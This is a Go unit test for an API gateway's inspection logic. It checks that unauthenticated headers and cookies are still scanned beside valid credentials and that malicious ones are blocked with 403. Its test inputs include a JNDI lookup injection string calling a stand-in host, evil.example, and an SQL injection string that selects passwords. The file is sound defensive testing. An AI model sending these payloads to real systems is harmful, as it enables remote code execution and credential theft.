package gateway

import (
	"net/http"
	"net/http/httptest"
	"testing"
)

// What nothing has verified is inspected, also beside a credential that was.
func TestUnprovenIsInspected(t *testing.T) {
	i := newIssuing(t)
	g, key, _ := newCredentialsGateway(t, i, "pass", "enforce")
	jwt := i.token(false)
	const sql = "1' UNION SELECT password FROM users--"
	for name, c := range map[string]struct {
		h    http.Header
		want int
	}{
		"the key alone":                       {http.Header{"X-Api-Key": {key}}, 200},
		"the token alone":                     {http.Header{"Cookie": {"token=" + jwt}}, 200},
		"Authorization of another scheme":     {http.Header{"X-Api-Key": {key}, "Authorization": {"Custom ${jndi:ldap://evil.example/a}"}}, 403},
		"the API's own session header":        {http.Header{"X-Api-Key": {key}, "X-Session": {"${jndi:ldap://evil.example/a}"}}, 403},
		"the API's own session cookie":        {http.Header{"X-Api-Key": {key}, "Cookie": {"sid=" + sql}}, 403},
		"a cookie whose name differs in case": {http.Header{"Cookie": {"token=" + jwt + "; TOKEN=" + sql}}, 403},
	} {
		r := httptest.NewRequest(http.MethodGet, "/items", nil)
		for n, v := range c.h {
			r.Header[n] = v
		}
		reached := false
		w := httptest.NewRecorder()
		g.Handler(func(string) Upstream {
			return func(w http.ResponseWriter, _ *http.Request) error {
				reached = true
				w.Header().Set("Content-Type", "application/json")
				_, err := w.Write([]byte("{}"))
				return err
			}
		}).ServeHTTP(w, r)
		if w.Code != c.want || reached != (c.want == 200) {
			t.Errorf("%s: status %d, reached %v: %s", name, w.Code, reached, w.Body)
		}
	}
}
